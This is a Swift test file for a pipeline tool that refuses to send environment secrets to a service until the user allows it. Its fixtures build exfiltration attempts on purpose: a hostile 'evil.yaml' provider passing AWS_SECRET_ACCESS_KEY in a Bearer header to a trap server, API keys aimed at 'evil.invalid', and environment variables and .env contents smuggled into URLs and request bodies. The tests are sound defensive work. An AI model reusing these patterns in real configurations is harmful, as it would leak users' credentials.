internal import Foundation
internal import Support
internal import Testing

/// A manifest that somebody else wrote, against a trap that keeps what it was sent: no variable and
/// no file leaves without its user's leave.
@Suite(.serialized) struct StrangerTests {
    private static let key = "canary-aws-1f8e55d0"
    private static let headers = """
        credentials: { token: AWS_SECRET_ACCESS_KEY }
        headers: { Authorization: "Bearer ${{ credentials.token }}" }
        """

    private let trap = PictureService()
    private let workplace: Workplace

    init() throws {
        workplace = try Workplace()
        try workplace.write(trap.description(more: Self.headers), to: "evil.yaml")
        try workplace.write(manifest(), to: "s.yaml")
    }

    private func manifest(
        provider: String = "service: ./evil.yaml", top: String = "",
        inputs: String = "prompt: a fox"
    ) -> String {
        """
        \(top)
        pipeline: stranger
        providers: { t: { \(provider) } }
        batches: [{ name: b, provider: t, inputs: { \(inputs) } }]
        """
    }

    private func tirage(
        _ arguments: String..., more: [String: String] = [:]
    ) async throws -> TirageProcess.Outcome {
        let own = [
            "XDG_CONFIG_HOME": workplace.folder.path + "/config", "HOME": workplace.folder.path,
            "AWS_SECRET_ACCESS_KEY": Self.key, "WIRO_API_KEY": Self.key,
        ]
        return try await TirageProcess.run(
            arguments, in: workplace.folder, environment: own.merging(more) { $1 })
    }

    private var isTrapped: Bool {
        trap.server.requests.contains { $0.contains("canary") || $0.contains("secret line") }
    }

    /// The command that a message advises, typed as it stands there.
    private func typed(_ outcome: TirageProcess.Outcome) async throws -> TirageProcess.Outcome {
        let match = try #require(
            outcome.error.firstMatch(of: /: (tirage allow [^\n]+)\n/), "\(outcome.error)")
        return try await TirageProcess.shell(
            String(match.1), in: workplace.folder,
            environment: [
                "XDG_CONFIG_HOME": workplace.folder.path + "/config", "HOME": workplace.folder.path,
            ])
    }

    // MARK: - Variables

    @Test func aForeignVariableIsSentOnlyAfterItsUserSaidSo() async throws {
        let refused = try await tirage("run", "s.yaml")
        #expect(refused.code == 65)
        #expect(refused.error.contains("send AWS_SECRET_ACCESS_KEY to \(trap.server.url)"))
        #expect(!refused.error.contains("canary"))
        #expect(trap.server.requests.isEmpty)

        let allowed = try await typed(refused)
        #expect(allowed.code == 0, "\(allowed.error)")
        let run = try await tirage("run", "s.yaml")
        #expect(run.code == 0, "\(run.error)")
        #expect(trap.submits == 1)

        try workplace.write(manifest(inputs: "prompt: a cat"), to: "s.yaml")
        let edited = try await tirage("run", "s.yaml")
        #expect(edited.code != 65, "another prompt asks nothing again: \(edited.error)")
        let list = try await tirage("allow", "--list")
        #expect(list.output.contains("AWS_SECRET_ACCESS_KEY=\(trap.server.url)"))

        #expect(try await tirage("allow", "--revoke", "AWS_SECRET_ACCESS_KEY").code == 0)
        try workplace.write(manifest(inputs: "prompt: a dog"), to: "s.yaml")
        #expect(try await tirage("run", "s.yaml").code == 65)
        #expect(trap.submits == 2)
        #expect(try await tirage("allow", "--revoke", "AWS_SECRET_ACCESS_KEY").code == 65)
    }

    @Test func everyCommandThatAsksAServiceObeys() async throws {
        for command in [
            ["run", "s.yaml"], ["run", "--limit", "0", "s.yaml"], ["probe", "evil.yaml", "--yes"],
            ["run", "--set", "providers.t.url=\(trap.server.url)/x", "s.yaml"],
        ] {
            let outcome = try await TirageProcess.run(
                command, in: workplace.folder,
                environment: ["AWS_SECRET_ACCESS_KEY": Self.key, "HOME": workplace.folder.path])
            #expect(outcome.code == 65, "\(command): \(outcome.error)")
            #expect(outcome.error.contains("tirage allow "), "\(command): \(outcome.error)")
        }
        #expect(trap.server.requests.isEmpty)
        let rehearsal = try await tirage(
            "run", "--rehearse", "--rehearse-latency", "40ms", "s.yaml")
        #expect(rehearsal.code == 0, "\(rehearsal.error)")
    }

    @Test func aKnownServiceAtAnotherPlaceIsAsked() async throws {
        let text = manifest(
            provider: "service: wiro, url: \"https://evil.invalid\"", inputs: "prompt: a fox"
        ).replacing("provider: t, inputs", with: "provider: t, model: a/b, inputs")
        try workplace.write(text, to: "s.yaml")
        let run = try await tirage("run", "s.yaml")
        #expect(run.code == 65)
        #expect(run.error.contains("send WIRO_API_KEY to https://evil.invalid"))
        let check = try await tirage("check", "s.yaml")
        #expect(
            check.output.contains("sends WIRO_API_KEY to https://evil.invalid (not allowed yet)"))
    }

    @Test func aWholeURLHidesNoOrigin() async throws {
        let said = try await tirage(
            "check", "pipelines/quickstart.yaml",
            more: ["INSTASD_API_URL": "https://api.instasd.com/api_endpoints/abc123def456"])
        #expect(said.code == 0, "\(said.error)")
        #expect(said.output.contains("sends INSTASD_TOKEN to https://api.instasd.com\n"))
        #expect(said.output.contains("sends WIRO_API_KEY to https://api.wiro.ai\n"))
        #expect(!said.output.contains("abc123def456") && !said.output.contains("allow"))
    }

    @Test func noValueOfTheEnvironmentHidesInAURL() async throws {
        for (name, path) in [
            ("TOKEN", "${{ env.TOKEN }}"), ("USER_NAME", "x/${{ env.USER_NAME }}"),
        ] {
            try workplace.write(
                trap.description().replacing("service: tiny", with: "service: plain"),
                to: "evil.yaml")
            try workplace.write(
                manifest(provider: "service: ./evil.yaml, url: \"\(trap.server.url)/\(path)\""),
                to: "s.yaml")
            let run = try await tirage("run", "s.yaml", more: [name: "canary-in-a-path"])
            #expect(run.code == 65)
            #expect(run.error.contains(name), "\(run.error)")
            #expect(!run.error.contains("canary"), "\(run.error)")
        }
        #expect(trap.server.requests.isEmpty)
    }

    @Test func theEnvironmentAllowsWhatItNamesAndNoMore() async throws {
        let pair = "AWS_SECRET_ACCESS_KEY=\(trap.server.url)"
        for wrong in ["*", "all", "AWS_SECRET_ACCESS_KEY", "AWS_SECRET_ACCESS_KEY=*", "/"] {
            let run = try await tirage("run", "s.yaml", more: ["TIRAGE_ALLOW": wrong])
            #expect(run.code == 65)
            #expect(run.error.contains("TIRAGE_ALLOW: "), "\(run.error)")
        }
        try workplace.write("TIRAGE_ALLOW=\(pair)\n", to: ".env")
        #expect(try await tirage("run", "s.yaml").code == 65, "a file of keys allows nothing")
        #expect(trap.server.requests.isEmpty)
        let run = try await tirage("run", "s.yaml", more: ["TIRAGE_ALLOW": "/srv/x, \(pair)"])
        #expect(run.code == 0, "\(run.error)")
    }

    @Test func aBrokenListAllowsNothing() async throws {
        try FileManager.default.createDirectory(
            at: workplace.folder.appending(path: "config/tirage"), withIntermediateDirectories: true
        )
        try workplace.write("everything\n", to: "config/tirage/allowed")
        for command in ["run", "check", "plan", "allow"] {
            let outcome = try await tirage(command, "s.yaml")
            #expect(outcome.code == 65, "\(command)")
            #expect(outcome.error.contains("config/tirage/allowed:1: 'everything'"))
        }
        #expect(trap.server.requests.isEmpty)
    }

    // MARK: - Bodies

    @Test func aRequestWithAKeyInItIsNotSent() async throws {
        #expect(try await tirage("allow", "s.yaml").code == 0)
        try workplace.write("a\nline \(Self.key)\n", to: "notes.txt")
        for inputs in ["prompt: \"my \(Self.key)\"", "note: { file: notes.txt, as: any }"] {
            try workplace.write(manifest(inputs: inputs), to: "s.yaml")
            let run = try await tirage("run", "s.yaml")
            #expect(run.code != 0)
            #expect(run.error.contains("a key stands in"), "\(run.error)")
        }
        #expect(trap.submits == 0)
        try workplace.write("SOME_OTHER=secret line\n", to: ".env")
        try workplace.write(manifest(inputs: "note: { file: .env, as: any }"), to: "s.yaml")
        #expect(try await tirage("run", "s.yaml").code == 65)
        #expect(!isTrapped)
    }

    // MARK: - What is said

    @Test func whatLeavesIsAlwaysSaid() async throws {
        let line = "sends AWS_SECRET_ACCESS_KEY to \(trap.server.url)"
        for command in [["check", "s.yaml"], ["plan", "s.yaml"]] {
            let said = try await TirageProcess.run(command, in: workplace.folder)
            #expect(said.code == 0, "\(said.error)")
            #expect(said.output.contains(line + " (not allowed yet)"), "\(said.output)")
            #expect(said.output.contains("tirage allow s.yaml"))
        }
        for command in ["check", "plan"] {
            let json = try await tirage(command, "--json", "s.yaml").output
            #expect(json.contains(#""variable":"AWS_SECRET_ACCESS_KEY""#), "\(json)")
            #expect(json.contains(#""allowed":false"#))
        }
        #expect(try await tirage("allow", "s.yaml").code == 0)
        let said = try await tirage("plan", "s.yaml").output
        #expect(said.contains(line) && !said.contains("not allowed"))
    }

    @Test func aKeptPlanIsRefusedWhereSomethingElseWouldLeave() async throws {
        #expect(try await tirage("plan", "-o", "plan.json", "s.yaml").code == 0)
        #expect(try workplace.read("plan.json").contains("sends AWS_SECRET_ACCESS_KEY to"))
        try workplace.write(
            trap.description(
                more: Self.headers.replacing("AWS_SECRET_ACCESS_KEY", with: "OTHER_KEY")),
            to: "evil.yaml")
        let run = try await tirage("run", "--plan", "plan.json", more: ["OTHER_KEY": "x"])
        #expect(run.code == 65)
        #expect(run.error.contains("sends OTHER_KEY to"), "\(run.error)")
        #expect(trap.server.requests.isEmpty)
    }

    @Test func aLimitOfTheUsersOwnHoldsOverAnyManifest() async throws {
        try FileManager.default.createDirectory(
            at: workplace.folder.appending(path: "config/tirage"), withIntermediateDirectories: true
        )
        try workplace.write("max-jobs: 2\n", to: "config/tirage/limits.yaml")
        try workplace.write(
            manifest(top: "max-jobs: 5000").replacing(
                "provider: t, inputs: {", with: "provider: t, repeat: 3, inputs: {"), to: "s.yaml")
        let check = try await tirage("check", "s.yaml")
        #expect(check.code == 65)
        #expect(check.error.contains("more than your own max-jobs allows (2)"), "\(check.error)")
        #expect(try await tirage("allow", "--list").output.contains("max-jobs: 2"))
    }
}
